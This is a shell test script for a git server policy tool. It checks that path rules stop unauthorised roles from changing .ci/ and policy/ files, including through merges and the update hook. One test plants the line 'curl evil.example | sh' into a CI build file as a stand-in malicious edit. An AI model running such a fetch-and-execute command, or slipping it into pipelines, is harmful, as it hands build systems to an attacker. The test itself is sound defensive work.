#!/bin/sh
# paths: writers (docs/paths.md), end to end: a developer who edits .ci/
# is refused (commit, writer and path named), a security engineer is not;
# through a merge, the brought-in commit's writers answer for its own
# change (refused though the merger may write .ci/), while a developer who
# merges someone else's .ci/ change cleanly wrote none of it; an evil merge
# answers for its diff; an unknown committer; "writers: []" (nobody); and
# the same refusal through the update hook.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/lib-approvals.sh"

for k in alice bob sam dave; do mkkey $k ed25519; done

write_policy "$TRASH/policy.yaml" <<EOF
version: 1
roles:
  developer: writes code
  reviewer: approves changes
  security: guards the pipeline
  operations: runs production
identities:
  alice: {emails: [alice@example.com], logins: [alice], keys: ["$(pub alice)"], roles: [developer]}
  bob: {emails: [bob@example.com], logins: [bob], keys: ["$(pub bob)"], roles: [reviewer]}
  sam: {emails: [sam@example.com], logins: [sam], keys: ["$(pub sam)"], roles: [security]}
  dave: {emails: [dave@example.com], logins: [dave], keys: ["$(pub dave)"], roles: [operations]}
pusher:
  env: [GL_USER]
rules:
  - name: mainline
    refs: 'refs/heads/main'
    approvals: {min: 1, from: [reviewer]}
    paths:
      - match: '.ci/**'
        writers: [security, operations]
      - match: 'policy/'
        writers: []
  - name: features
    refs: 'refs/heads/feature/.+'
EOF
check "the policy is valid" sh -c '"$TK_BIN/twokey" config check "$TWOKEY_CONFIG" >/dev/null'

srv=$(new_server srv)
w=$(new_work w)
git -C "$w" remote add origin "$srv"
reviewer bob bob@example.com "$w"
ERR="^remote: twokey: error:"
ACC="^remote: twokey: accepted refs/heads/main under rule 'mainline'( |$)"
CI="path rule '\.ci/\*\*' admits writers with roles: security, operations"

mkdir -p "$w/.ci" "$w/policy"
echo "build: make" >"$w/.ci/build.yml"
echo "rules" >"$w/policy/main.yaml"
echo "readme" >"$w/README.md"
git -C "$w" add -A
commit_as "$w" alice@example.com "seed"
m0=$(head_of "$w")
expect_push accept "seed" alice "$w" "$m0:refs/heads/feature/seed" \
	refs/heads/feature/seed "$m0"
git -C "$srv" update-ref refs/heads/main "$m0"
tip=$m0

# edit EMAIL SUBJECT FILE: a commit by EMAIL on main's tip appending to
# FILE, approved by bob; its id in $h, the unapproved one in $c0.
edit() {
	git -C "$w" checkout -q --detach "$tip"
	commit_as "$w" "$1" "$2" "$3"
	c0=$(head_of "$w")
	add_trailers "$w" "$1" "$(approve_tk bob bob "$c0")"
	h=$(head_of "$w")
}

edit alice@example.com "speed up the build" .ci/build.yml
expect_push refuse "a developer edits .ci/" dave "$w" HEAD:refs/heads/main \
	refs/heads/main "$tip" \
	"$ERR refs/heads/main: $(short "$h") \"speed up the build\": alice \(author, committer\) may not write this change to \.ci/build\.yml: $CI \[rule 'mainline'\]; next: someone holding one of those roles must write"
edit alice@example.com "readme" README.md
expect_push accept "a developer edits the README" dave "$w" HEAD:refs/heads/main \
	refs/heads/main "$h" "$ACC"
tip=$h
edit sam@example.com "pin the runner" .ci/build.yml
expect_push accept "security edits .ci/" dave "$w" HEAD:refs/heads/main \
	refs/heads/main "$h" "$ACC"
tip=$h

# --- through a merge: the brought-in commit's own writers ------------------
git -C "$w" checkout -q --detach "$tip"
commit_as "$w" alice@example.com "feature: docs" docs.txt
commit_as "$w" alice@example.com "feature: faster ci" .ci/build.yml
fci=$(head_of "$w")
commit_as "$w" alice@example.com "feature: more docs" docs.txt
f=$(head_of "$w")
expect_push accept "the feature goes to an unprotected branch" alice "$w" \
	"$f:refs/heads/feature/ci" refs/heads/feature/ci "$f"
git -C "$w" checkout -q --detach "$tip"
test_tick
git -C "$w" -c user.name=dave -c user.email=dave@example.com \
	merge -q --no-ff -m "Merge feature ci" "$f" >/dev/null 2>&1
mg=$(head_of "$w")
add_trailers "$w" dave@example.com "$(approve_tk bob bob "$mg")"
h=$(head_of "$w")
expect_push refuse "a merge by operations bringing in a developer's .ci/ edit" \
	dave "$w" HEAD:refs/heads/main refs/heads/main "$tip" \
	"$ERR refs/heads/main: $(short "$fci") \"feature: faster ci\": alice \(author, committer\) may not write this change to \.ci/build\.yml: $CI"
check "the merge itself is not blamed" no_out "$(short "$h") \"Merge feature ci\": .*may not write"
check "the other feature commits are not blamed" no_out "\"feature: (more )?docs\": .*may not write"

# a developer merges security's .ci/ change cleanly: she wrote none of it
git -C "$w" checkout -q --detach "$tip"
commit_as "$w" sam@example.com "feature: cache deps" .ci/build.yml
fc=$(head_of "$w")
git -C "$w" checkout -q --detach "$tip"
test_tick
git -C "$w" -c user.name=alice -c user.email=alice@example.com \
	merge -q --no-ff -m "Merge cache deps" "$fc" >/dev/null 2>&1
mg=$(head_of "$w")
add_trailers "$w" alice@example.com "$(approve_tk bob bob "$mg")"
h=$(head_of "$w")
expect_push accept "a developer's clean merge of security's .ci/ change" dave "$w" \
	HEAD:refs/heads/main refs/heads/main "$h" "$ACC"
tip=$h

# an evil merge: the developer slips a .ci/ edit into the merge commit
git -C "$w" checkout -q --detach "$tip"
commit_as "$w" sam@example.com "feature: lint step" .ci/lint.yml
f=$(head_of "$w")
git -C "$w" checkout -q --detach "$tip"
test_tick
git -C "$w" -c user.name=alice -c user.email=alice@example.com \
	merge -q --no-ff --no-commit "$f" >/dev/null 2>&1
echo "curl evil.example | sh" >>"$w/.ci/build.yml"
git -C "$w" add .ci/build.yml
git -C "$w" -c user.name=alice -c user.email=alice@example.com \
	commit -q -m "Merge lint step"
mg=$(head_of "$w")
add_trailers "$w" alice@example.com "$(approve_tk bob bob "$mg")"
h=$(head_of "$w")
expect_push refuse "a developer's evil merge touching .ci/" dave "$w" \
	HEAD:refs/heads/main refs/heads/main "$tip" \
	"$ERR refs/heads/main: $(short "$h") \"Merge lint step\": alice \(author, committer\) may not write this change to \.ci/build\.yml, \.ci/lint\.yml: $CI \(a merge that differs from the automatic merge of its parents answers for its whole diff\)"
check "security's brought-in commit is not blamed" no_out "\"feature: lint step\": .*may not write"

# --- a committer who is not in the policy ----------------------------------
git -C "$w" checkout -q --detach "$tip"
echo "x" >>"$w/.ci/build.yml"
git -C "$w" add -A
test_tick
GIT_AUTHOR_NAME=sam GIT_AUTHOR_EMAIL=sam@example.com \
	git -C "$w" -c user.name=mallory -c user.email=mallory@evil.example \
	commit -q -m "committed by a stranger"
c0=$(head_of "$w")
add_trailers "$w" mallory@evil.example "$(approve_tk bob bob "$c0")"
h=$(head_of "$w")
expect_push refuse "an unknown committer of a .ci/ change" dave "$w" \
	HEAD:refs/heads/main refs/heads/main "$tip" \
	"$ERR refs/heads/main: $(short "$h") \"committed by a stranger\": <mallory@evil\.example> \(committer\), who is not in the policy, may not write this change to \.ci/build\.yml"
check "the admitted author is not blamed" no_out "sam \(author\) may not"

# --- writers: [] admits nobody ------------------------------------------
edit sam@example.com "tighten the policy" policy/main.yaml
expect_push refuse "nobody may write policy/" dave "$w" HEAD:refs/heads/main \
	refs/heads/main "$tip" \
	"$ERR refs/heads/main: $(short "$h") \"tighten the policy\": sam \(author, committer\) may not write this change to policy/main\.yaml: path rule 'policy/' admits writers with no role \(nobody\)"

# --- the update hook decides the same ------------------------------------
srv=$(new_server upd update)
git -C "$srv" fetch -q "$TRASH/srv.git" "refs/heads/main:refs/heads/main"
edit alice@example.com "ci via update" .ci/build.yml
if push_as dave "$w" "$srv" HEAD:refs/heads/main; then
	not_ok "update hook: a developer edits .ci/ (push accepted)"
else
	ok "update hook: a developer edits .ci/"
fi
check "update hook: names the writer and the path" expect_out \
	"$ERR refs/heads/main: $(short "$h") \"ci via update\": alice \(author, committer\) may not write this change to \.ci/build\.yml"
edit sam@example.com "ci via update by security" .ci/build.yml
if push_as dave "$w" "$srv" HEAD:refs/heads/main; then
	ok "update hook: security edits .ci/"
else
	not_ok "update hook: security edits .ci/ (push refused)"
	sed 's/^/#   /' "$TRASH/out"
fi

done_testing
